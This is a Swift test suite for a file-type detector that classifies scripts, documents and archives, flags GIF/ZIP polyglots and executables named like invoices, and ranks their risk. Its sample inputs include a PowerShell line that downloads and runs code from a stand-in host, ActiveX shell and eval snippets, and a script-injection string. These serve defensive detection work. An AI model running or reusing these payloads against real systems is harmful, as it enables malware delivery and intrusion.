import Documents
import Testing

struct KindTests {
  private func kinds(_ octets: [UInt8]) -> [ArtefactKind] { DocumentReader().read(octets).kinds }
  private func kinds(_ text: String) -> [ArtefactKind] { kinds(Array(text.utf8)) }

  @Test(arguments: [
    ("#!/bin/bash\necho", ArtefactKind.shellScript), ("#!/usr/bin/env python3\n", .pythonScript),
    ("@echo off\r\ndel %temp%\\a.txt", .batch),
    ("On Error Resume Next\r\nSet o = CreateObject(\"WScript.Shell\")", .vbScript),
    ("var s = new ActiveXObject('WScript.Shell'); eval(unescape('%61'));", .javaScript),
    ("$a = New-Object Net.WebClient; iex($a.DownloadString('http://a.example'))", .powerShell),
    ("[InternetShortcut]\r\nURL=file://a.example/x.exe", .internetShortcut),
    ("[Shell]\nCommand=2\nIconFile=\\\\a.example\\x.ico", .shellCommand),
    ("Windows Registry Editor Version 5.00\r\n", .registry),
    ("<?xml version=\"1.0\"?><jnlp href=\"a\"></jnlp>", .javaLauncher),
    ("<?xml version=\"1.0\"?><libraryDescription>", .library),
    ("<job><script language=\"JScript\">x</script></job>", .windowsScript),
    ("<html><hta:application id=a></html>", .htmlApplication),
    ("<!DOCTYPE html><html><p>hi</html>", .html),
    ("<svg xmlns=\"http://www.w3.org/2000/svg\"></svg>", .svg),
    ("ID;PWXL;N;E\r\nP;PGeneral", .symbolicLink), ("WEB\r\n1\r\nhttp://a.example/", .webQuery),
    ("From: a@b.example\r\nTo: c@d.example\r\nSubject: hi\r\n\r\nhello", .mail),
    ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=a\r\n\r\n--a\r\n", .mht),
    ("{\\rtf1 hello}", .rtf), ("  \r\n{\\rt hello}", .rtf), ("%PDF-1.7\n", .pdf),
    ("BEGIN:VCALENDAR\r\n", .calendar), ("hello there, how are you?", .text), ("", .empty),
    ("begin 644 a.exe\n#0V%T\n`\nend\n", .uuencoded),
  ])
  func `a text is what its words say`(text: String, kind: ArtefactKind) {
    #expect(kinds(text).first == kind, "\(kinds(text))")
  }

  @Test(arguments: [
    "Dear all, please set the function of the meeting (see below) and return the form; thanks.",
    "来週の会議について（資料は添付のとおりです）。よろしくお願いします。",
    "If you want to copy the file, start the program and then exit.",
    "The price is $20 @ shop; see http://a.example/x?var=1",
  ])
  func `prose is no script`(text: String) {
    #expect(kinds(text) == [.text], "\(kinds(text))")
  }

  @Test func `UTF-16 is read, too`() {
    let wide = "<html><script>".utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
    #expect(kinds([0xFF, 0xFE] + wide).contains(.html))
  }

  @Test func `what is several things is told as all of them, the riskiest first`() {
    let zip = ZipBuilder([.init("run.sh", program)]).octets
    let gif = Array("GIF89a".utf8) + [UInt8](repeating: 0, count: 100)
    let both = DocumentReader().read(gif + zip, name: ArtefactName("a.gif"))
    #expect(both.kinds == [.zip, .gif])
    #expect(both.has(.polyglot))
    #expect(both.has(.disguised))
    #expect(!both.programs.isEmpty)
    let pdf = kinds([UInt8](repeating: 0x20, count: 1000) + Array("%PDF-1.4".utf8))
    #expect(pdf.contains(.pdf))
    #expect(kinds(gif + Array("<script>alert(1)</script>".utf8)).contains(.html))
  }

  @Test func `a program in a document's clothes is told`() {
    var program = [UInt8](repeating: 0, count: 256)
    program.replaceSubrange(0..<2, with: Array("MZ".utf8))
    program[0x3C] = 0x80
    program.replaceSubrange(0x80..<0x84, with: Array("PE\0\0".utf8))
    let found = DocumentReader().read(program, name: ArtefactName("invoice.pdf"))
    #expect(found.kind == .portableExecutable)
    #expect(found.kind.risk == .active)
    #expect(found.has(.disguised))
    let honest = DocumentReader().read(program, name: ArtefactName("setup.exe"))
    #expect(!honest.has(.disguised))
  }

  @Test func `risk follows the kind`() {
    #expect(ArtefactKind.shortcut.risk == .active)
    #expect(ArtefactKind.wordBinary.risk == .document)
    #expect(ArtefactKind.zip.risk == .container)
    #expect(ArtefactKind.png.risk == .passive)
  }
}
